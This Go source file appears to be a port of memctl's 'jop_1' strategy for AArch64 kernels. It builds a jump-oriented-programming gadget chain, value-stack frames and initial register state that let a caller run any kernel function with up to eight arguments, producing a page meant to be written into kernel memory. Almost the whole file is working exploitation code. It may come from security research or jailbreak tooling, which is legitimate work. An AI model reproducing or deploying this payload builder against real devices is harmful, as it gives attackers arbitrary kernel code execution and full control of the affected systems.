// Package jop builds the JOP (jump-oriented-programming) payload that lets
// the kernel-call façade invoke an arbitrary kernel function with up to
// eight word-sized arguments (spec §4.F). Ported from the "jop_1" strategy
// in original_source/src/libmemctl/aarch64/kernel_call_aarch64.c — layout
// offsets, gadget chains, and load-gadget frame contents are load-bearing
// and copied verbatim in meaning.
package jop

import (
	"encoding/binary"

	"github.com/memctl/memctl-go/pkg/gadget"
)

const (
	valueStackOffset  = 0x000
	resultOffset      = 0x09c
	storeResumeOffset = 0x000
	jopStackOffset    = 0x0e0
	loadAdvance       = 0x34
	// storeResumeBack is store_resume + sizeof(uint64) - 0x28 from the
	// original source, folded into one subtraction to keep the
	// arithmetic in unsigned space.
	storeResumeBack = 0x20

	// payloadSize is how much of the allocated kernel page this
	// strategy's layout actually uses; the remainder of the page is
	// filled with 0xba so a stray read stands out in diagnostics (spec
	// §4.F's determinism note).
	payloadSize = 0x400
	fillerByte  = 0xba
)

// jop1CallChain is the sequence of dispatch-node gadgets that stage the
// call's arguments, one load-gadget frame at a time.
var jop1CallChain = []gadget.ID{
	gadget.MovX20X0BlrX8,
	gadget.MovX10X4BrX8,
	gadget.MovX9X10BrX8,
	gadget.MovX11X9BrX8,
	gadget.LdpX3X4X20_20LdpX5X6X20_30BlrX8,
	gadget.AddX20X20_34BrX8,
	gadget.MovX22X6BlrX8,
	gadget.MovX24X4BrX8,
	gadget.MovX0X3BlrX8,
	gadget.MovX28X0BlrX8,
	gadget.LdpX3X4X20_20LdpX5X6X20_30BlrX8,
	gadget.AddX20X20_34BrX8,
	gadget.MovX12X3BrX8,
	gadget.MovX0X5BlrX8,
	gadget.MovX9X0BrX11,
	gadget.MovX7X9BlrX11,
	gadget.LdpX3X4X20_20LdpX5X6X20_30BlrX8,
	gadget.AddX20X20_34BrX8,
	gadget.MovX0X3BlrX8,
	gadget.MovX9X0BrX11,
	gadget.MovX10X4BrX8,
	gadget.MovX0X5BlrX8,
	gadget.LdpX3X4X20_20LdpX5X6X20_30BlrX8,
	gadget.MovX11X24BrX8,
	gadget.MovX1X9MovX2X10BlrX11,
}

// jop1ReturnChain runs after the target function returns: it stores the
// result, restores the link register, and rets back out to the trap-hook
// caller.
var jop1ReturnChain = []gadget.ID{
	gadget.StrX0X20LdrX8X22LdrX8X8_28MovX0X22BlrX8,
	gadget.MovX30X21BrX8,
	gadget.Ret,
}

// jop1Required is the set of catalog gadgets this strategy cannot run
// without (mirrors the strategy table's bitmask in the original source).
var jop1Required = append(append([]gadget.ID{
	gadget.LdpX2X1X1BrX2,
	gadget.MovX12X2BrX3,
	gadget.MovX2X30BrX12,
	gadget.MovX8X4BrX5,
	gadget.MovX21X2BrX8,
}, jop1CallChain...), jop1ReturnChain...)

// InitialState is what the caller (pkg/kernelcall, via the trap hook) must
// realize on the kernel side to start the JOP chain: a PC and the seven
// initial register values x0..x6.
type InitialState struct {
	PC uint64
	X  [7]uint64
}

// Payload is the result of building a JOP call: the initial state the
// caller must branch into, and the kernel address the 64-bit return value
// will be written to once the chain completes.
type Payload struct {
	Bytes         []byte // exactly one kernel page, ready to mach_vm_write verbatim
	Initial       InitialState
	ResultAddress uint64
}

// HaveStrategy reports whether found contains every gadget the jop_1
// strategy requires.
func HaveStrategy(found *gadget.Found) bool {
	for _, id := range jop1Required {
		if !found.Have(id) {
			return false
		}
	}
	return true
}

// Build lays out the jop_1 payload for calling func(args[0..7]) at
// basePage, a kernel virtual address of a page-aligned, previously
// allocated region. found must satisfy HaveStrategy.
func Build(found *gadget.Found, basePage uint64, fn uint64, args [8]uint64) *Payload {
	buf := make([]byte, 0x4000)
	for i := range buf {
		buf[i] = fillerByte
	}

	addr := func(id gadget.ID) uint64 { return found.Get(id).Addr }

	storeResume := basePage + storeResumeOffset
	putU64(buf, storeResumeOffset, storeResume-storeResumeBack)
	putU64(buf, storeResumeOffset+8, addr(gadget.LdpX2X1X1BrX2))

	// JOP_STACK: a linked list of (gadget, next-node) dispatch pairs,
	// call chain first, then the return chain.
	next := basePage + jopStackOffset
	off := jopStackOffset
	for _, id := range jop1CallChain {
		next += 16
		putU64(buf, off, addr(id))
		putU64(buf, off+8, next)
		off += 16
	}
	returnChainStart := next
	for _, id := range jop1ReturnChain {
		next += 16
		putU64(buf, off, addr(id))
		putU64(buf, off+8, next)
		off += 16
	}

	// VALUE_STACK: four load-gadget frames of LOAD_ADVANCE bytes each,
	// each exposing x3..x6 at a fixed sub-offset the load gadget reads.
	frame := valueStackOffset
	putU64(buf, frame+0x20, addr(gadget.LdpX8X1X20_10BlrX8)) // x3
	putU64(buf, frame+0x28, addr(gadget.MovX30X28BrX12))     // x4
	// x5 unused in this frame
	putU64(buf, frame+0x38, storeResume) // x6

	frame += loadAdvance
	putU64(buf, frame+0x20, fn)      // x3
	putU64(buf, frame+0x30, args[7]) // x5

	frame += loadAdvance
	putU64(buf, frame+0x20, args[1]) // x3
	putU64(buf, frame+0x28, args[2]) // x4
	putU64(buf, frame+0x30, args[0]) // x5

	frame += loadAdvance
	putU64(buf, frame+0x20, args[3]) // x3
	putU64(buf, frame+0x28, args[4]) // x4
	putU64(buf, frame+0x30, args[5]) // x5
	putU64(buf, frame+0x38, args[6]) // x6

	// Call-recovery gadget: aliases the fourth load frame (same base
	// offset — by the time the target function returns, those load
	// values have already been consumed) and restores x8/x1 so the
	// dispatcher can resume into the return chain.
	putU64(buf, frame+0x10, addr(gadget.LdpX2X1X1BrX2))
	putU64(buf, frame+0x18, returnChainStart)

	initial := InitialState{
		PC: addr(gadget.MovX12X2BrX3),
		X: [7]uint64{
			basePage + valueStackOffset,
			basePage + jopStackOffset,
			addr(gadget.MovX8X4BrX5),
			addr(gadget.MovX2X30BrX12),
			addr(gadget.LdpX2X1X1BrX2),
			addr(gadget.MovX21X2BrX8),
			0,
		},
	}

	return &Payload{
		Bytes:         buf,
		Initial:       initial,
		ResultAddress: basePage + resultOffset,
	}
}

func putU64(buf []byte, off int, v uint64) {
	binary.LittleEndian.PutUint64(buf[off:off+8], v)
}
